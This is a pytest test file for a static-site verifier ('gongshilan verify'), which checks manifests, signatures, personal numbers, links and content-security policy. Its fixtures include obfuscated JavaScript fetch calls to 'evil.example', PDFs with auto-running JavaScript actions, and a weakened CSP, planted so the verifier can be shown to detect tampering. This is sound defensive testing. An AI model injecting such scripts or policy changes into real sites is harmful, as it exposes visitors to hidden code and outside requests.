"""``gongshilan verify``: everything that must not be in a finished site is found and named; what may be there is left alone."""

from __future__ import annotations

import json
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path

import pikepdf
import pytest
from gongshilan.build.trust import trust_of
from gongshilan.catalogue import catalogue
from gongshilan.search.files import write_part
from gongshilan.verify.address import read_address, resolve
from gongshilan.verify.manifest import MANIFEST, SIGNATURE, manifest_bytes, read_manifest
from gongshilan.verify.site import verify_site
from hypothesis import given
from hypothesis import strategies as st
from support.days import Days
from support.forks import Forks
from support.sites import SiteCase, lay_site, seal, site_cases

pytestmark = pytest.mark.xdist_group("publishing")
CASES = site_cases()


def found(folder: Path, **how: object) -> set[tuple[str, str, int]]:
    """Code, path, line of everything verification finds."""
    problems = verify_site(folder, jobs=1, **how).problems
    return {(problem.code, problem.place.path, problem.place.line) for problem in problems}


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.name)
def test_case(case: SiteCase, tmp_path: Path) -> None:
    assert found(lay_site(tmp_path / "site", case.files)) == case.expect


# Tested in tests/archive/test_bag.py.
BY_ARCHIVES = {"bag-missing", "bag-extra", "bag-changed", "bag-broken", "bag-format"}


def test_every_finding_has_a_case_and_its_sentences() -> None:
    """The catalogue and the cases cover each other."""
    shown = {code for case in CASES for code, _, _ in case.expect}
    by_manifest = {"manifest-missing", "manifest-broken", "file-missing", "file-extra", "file-changed"}
    texts = catalogue()
    assert shown | by_manifest | {
        "link-search",
        "page-policy",
        "script-unknown",
        "signature-missing",
        "signature-wrong",
        *BY_ARCHIVES,
    } == set(texts["findings"])
    assert not set(texts["findings"]) & set(texts["problems"])
    for code, entry in texts["findings"].items():
        assert set(entry) == {"title", "message", "expected", "fix"}, code
    assert len(CASES) >= 75


def test_a_number_in_a_pdf(tmp_path: Path) -> None:
    """In a packed page, and in what the document says of itself; a PDF cut short cannot be looked through."""
    site = lay_site(tmp_path / "site", {})
    pdf = pikepdf.new()
    pdf.add_blank_page()
    font = pikepdf.Dictionary(Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica)
    pdf.pages[0].Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font))
    pdf.pages[0].Contents = pdf.make_stream(b"BT /F1 12 Tf 72 720 Td (tel 13800138000) Tj ET")
    pdf.docinfo["/Title"] = "11010519491231002X"
    pdf.save(site / "x.pdf", compress_streams=True, recompress_flate=True)
    assert b"13800138000" not in (site / "x.pdf").read_bytes()
    seal(site)
    assert found(site) == {("site-number-mobile", "x.pdf", 1), ("site-number-id", "x.pdf", 1)}
    (site / "x.pdf").write_bytes((site / "x.pdf").read_bytes()[:60])
    seal(site)
    assert found(site) == {("site-unreadable", "x.pdf", 1)}


def test_the_manifest_tells_every_difference(tmp_path: Path) -> None:
    """A byte, a file more, a file less, a name; a manifest that is cut off, doubled or gone."""
    sound = lay_site(tmp_path / "sound", {})
    assert found(sound) == set()
    raw = (sound / MANIFEST).read_bytes()

    def spoilt(how: Callable[[Path], object]) -> set[tuple[str, str, int]]:
        shutil.rmtree(tmp_path / "site", ignore_errors=True)
        shutil.copytree(sound, tmp_path / "site")
        how(tmp_path / "site")
        return found(tmp_path / "site")

    page = "folder/page.html"
    changed = (sound / page).read_bytes().replace(b"\n", b"\r", 1)
    assert spoilt(lambda site: (site / page).write_bytes(changed)) == {("file-changed", page, 1)}
    assert spoilt(lambda site: (site / "new.txt").write_text("x")) == {("file-extra", "new.txt", 1)}
    assert ("file-missing", page, 1) in spoilt(lambda site: (site / page).unlink())
    moved = spoilt(lambda site: (site / page).rename(site / "folder" / "Page.html"))
    assert moved == {("file-missing", page, 1), ("file-extra", "folder/Page.html", 1)}
    assert spoilt(lambda site: (site / MANIFEST).unlink()) == {("manifest-missing", MANIFEST, 1)}
    assert spoilt(lambda site: (site / MANIFEST).write_bytes(raw[:-9])) == {("manifest-broken", MANIFEST, 5)}
    assert spoilt(lambda site: (site / MANIFEST).write_bytes(raw + raw)) == {("manifest-broken", MANIFEST, 6)}


def test_coreutils_read_the_manifest(tmp_path: Path) -> None:
    """``sha256sum -c`` agrees, also about a changed byte."""
    site = lay_site(tmp_path / "site", {"目录/会议 一.html": "<p>会议</p>"})
    check = ["sha256sum", "--check", "--strict", "--quiet", MANIFEST]
    assert subprocess.run(check, cwd=site, check=False).returncode == 0
    (site / "dot.png").write_bytes(b"x")
    assert subprocess.run(check, cwd=site, capture_output=True, check=False).returncode == 1


@given(
    st.dictionaries(
        st.text(st.characters(exclude_characters="\n", exclude_categories=["Cs"]), min_size=1), st.just("0" * 64)
    )
)
def test_a_manifest_reads_as_it_was_written(digests: dict[str, str]) -> None:
    assert read_manifest(manifest_bytes(digests)) == {path: digest for path, digest in digests.items() if path != MANIFEST}


@given(st.text(max_size=40), st.text("./\\%2eaA?#:", max_size=12))
def test_an_address_never_leads_out(folder: str, value: str) -> None:
    """Whatever is written, it resolves inside the edition or not at all."""
    address = read_address(value)
    if not address.scheme:
        target = resolve(f"{folder.replace('/', '')}/x.html", address.path)
        assert target is None or not (target.startswith(("/", "..")) and target.split("/")[0] == "..")


@pytest.fixture(scope="module")
def built(quick: Path, days: Days) -> Path:
    """The small portal with its site."""
    root = quick / "verify"
    shutil.copytree(days.portal, root)
    days.show("c", root)
    return root


@pytest.mark.build
def test_a_built_site_is_in_order(built: Path, forks: Forks) -> None:
    for edition in ("public", "office"):
        done = forks.run("--root", built, "verify", built / "site" / edition)
        assert done.returncode == 0, done.stdout + done.stderr


# What somebody put into the site, in which file, and what is found. The manifest is made to fit, so that each is found for itself.
PUT_IN = {
    "phone": ("index.html", b"</h1>", b"</h1><p>13800138000</p>", "site-number-mobile"),
    "dead link": ("index.html", b"</h1>", b'</h1><a href="gone.html">x</a>', "link-dead"),
    "request": (
        "example-2030/meeting/example-opening.html",
        b"</h1>",
        b'</h1><img src="//c.example/1.gif">',
        "page-request",
    ),
    "script": ("search.html", b"</h1>", b"</h1><script>1</script>", "page-inline"),
    "style": ("assets/gsl/10-base.css", b"}", b"} @import '//c.example/x.css';", "page-request"),
}


@pytest.mark.build
@pytest.mark.parametrize("what", PUT_IN)
def test_what_was_put_into_a_built_site_is_named(built: Path, tmp_path: Path, forks: Forks, what: str) -> None:
    path, before, after, code = PUT_IN[what]
    site = tmp_path / "public"
    shutil.copytree(built / "site" / "public", site)
    raw = (site / path).read_bytes()
    assert before in raw
    (site / path).write_bytes(raw.replace(before, after, 1))
    done = forks.run("--root", built, "verify", site, "--format", "json")
    assert done.returncode == 1
    assert ("file-changed", f"{site}/{path}") in {(item["code"], item["path"]) for item in json.loads(done.stdout)}
    seal(site)
    done = forks.run("--root", built, "verify", site, "--format", "json")
    assert done.returncode == 1, done.stdout
    [item] = json.loads(done.stdout)
    assert (item["code"], item["path"]) == (code, f"{site}/{path}")
    assert item["line"] == raw[: raw.index(before)].count(b"\n") + 1
    assert item["fix"]
    assert "13800138000" not in done.stdout + done.stderr


@pytest.mark.build
def test_the_search_index_is_followed(built: Path, tmp_path: Path) -> None:
    """A page that search would lead to and that is not there; an index that cannot be read."""
    site = tmp_path / "public"
    shutil.copytree(built / "site" / "public", site)
    (site / "example-2030" / "meeting" / "example-opening.html").unlink()
    assert ("link-search", "search/index.js", 1) in found(site)
    (site / "search" / "index.js").write_bytes(write_part("index", b"{}"))
    assert ("site-unreadable", "search/index.js", 1) in found(site)


def test_wrong_use(tmp_path: Path, forks: Forks) -> None:
    """No site there; a folder of editions is none either."""
    (tmp_path / "site" / "public").mkdir(parents=True)
    for path in (tmp_path / "site", tmp_path / "nothing"):
        done = forks.run("verify", path)
        assert done.returncode == 2
        assert "Traceback" not in done.stderr


def test_a_pdf_that_does_something(tmp_path: Path) -> None:
    site = lay_site(tmp_path / "site", {})
    for name, put in {"open": "/OpenAction", "more": "/AA"}.items():
        pdf = pikepdf.new()
        pdf.add_blank_page()
        pdf.Root[put] = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
        pdf.save(site / f"{name}.pdf", object_stream_mode=pikepdf.ObjectStreamMode.generate)
    pikepdf.new().save(site / "still.pdf")
    seal(site)
    assert found(site) == {("site-type", "open.pdf", 1), ("site-type", "more.pdf", 1)}


# What somebody changed in a built site, file and bytes; there need be nothing wrong with it but that nobody put it there.
CHANGED = {
    "policy removed": ("index.html", b'http-equiv="Content-Security-Policy"', b'name="x"', "page-policy"),
    "policy weakened": ("index.html", b"default-src &#39;none&#39;", b"default-src *", "page-policy"),
    "another policy": (
        "index.html",
        b"</title>",
        b'</title><meta http-equiv="content-security-policy" content="report-uri x">',
        "page-policy",
    ),
    "script": ("assets/gsl/search.js", b"", b"fetch('https:'+'//evil.example');", "script-unknown"),
    "search part": ("search/index.js", b"", b"fetch(['https:','evil.example'].join('//'));", "script-unknown"),
    "new script": ("assets/gsl/new.js", b"", b"1", "script-unknown"),
}


@pytest.mark.build
def test_what_was_changed_in_a_built_site_is_named(built: Path, tmp_path: Path) -> None:
    """With the manifest made to fit, by the policy and the scripts of the theme; the search index is then read from elsewhere."""
    trust = trust_of(built)
    site = tmp_path / "public"
    shutil.copytree(built / "site" / "public", site)
    for what, (path, before, after, code) in CHANGED.items():
        raw = (site / path).read_bytes() if (site / path).exists() else b""
        assert before in raw, what
        (site / path).write_bytes(raw.replace(before, after, 1) if before else raw + after)
        seal(site)
        assert (code, path) in {item[:2] for item in found(site, trust=trust)}, what
        (site / path).write_bytes(raw) if raw else (site / path).unlink()
    seal(site)
    assert found(site, trust=trust) == set()


@pytest.mark.build
def test_a_signature(built: Path, tmp_path: Path, forks: Forks) -> None:
    """Right with its key among others; none, another key, a changed manifest, a signature for something else are found."""
    keys = [tmp_path / name for name in ("ours", "theirs")]
    for key in keys:
        subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "x", "-f", key], check=True)
    both = tmp_path / "both.pub"
    both.write_text("# 公钥\n" + "".join(key.with_suffix(".pub").read_text() for key in keys[::-1]), encoding="utf-8")
    site = built / "site" / "public"

    def codes(key: Path, folder: Path = site) -> list[str]:
        done = forks.run("--root", built, "verify", folder, "--format", "json", "--key", key)
        return [item["code"] for item in json.loads(done.stdout)]

    ours, theirs = (key.with_suffix(".pub") for key in keys)
    assert codes(ours) == ["signature-missing"]
    done = forks.run("--root", built, "publish", tmp_path / "www")
    assert done.returncode == 0, done.stderr
    done = forks.run("--root", built, "publish", tmp_path / "www", "--sign-key", keys[0])
    assert done.returncode == 0, done.stderr
    served = tmp_path / "www" / "current" / "public"
    for folder in (site, served):
        assert codes(ours, folder) == codes(both, folder) == []
        assert codes(theirs, folder) == ["signature-wrong"]
    copy = tmp_path / "copy" / "public"
    shutil.copytree(site, copy)
    (copy / "robots.txt").write_bytes(b"x")
    seal(copy)
    assert codes(ours, copy) == ["signature-wrong"]
    other = subprocess.run(
        ["ssh-keygen", "-q", "-Y", "sign", "-f", keys[0], "-n", "file"],
        input=(site / MANIFEST).read_bytes(),
        capture_output=True,
        check=True,
    )
    (copy / MANIFEST).write_bytes((site / MANIFEST).read_bytes())
    (copy / SIGNATURE).write_bytes(other.stdout)
    assert codes(ours, copy)[0] == "signature-wrong"
    done = forks.run("--root", built, "verify", site, "--key", keys[0])
    assert done.returncode != 0
    for edition in (built / "site").iterdir():
        (edition / SIGNATURE).unlink(missing_ok=True) if edition.is_dir() else None
